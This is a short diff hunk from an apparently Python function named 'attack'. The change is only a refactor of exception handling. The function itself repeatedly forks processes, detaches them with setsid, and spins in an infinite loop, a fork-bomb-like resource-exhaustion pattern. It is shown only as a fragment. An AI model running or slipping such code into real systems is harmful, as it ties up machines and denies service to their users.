@@ -4,11 +4,9 @@ def attack(keys, j):
         if os.fork():
             continue
         while True:
-            try:
+            with suppress(OSError):
                 if os.fork():
                     os._exit(0)
                 os.setsid()
-            except OSError:
-                continue
     while True:
         pass
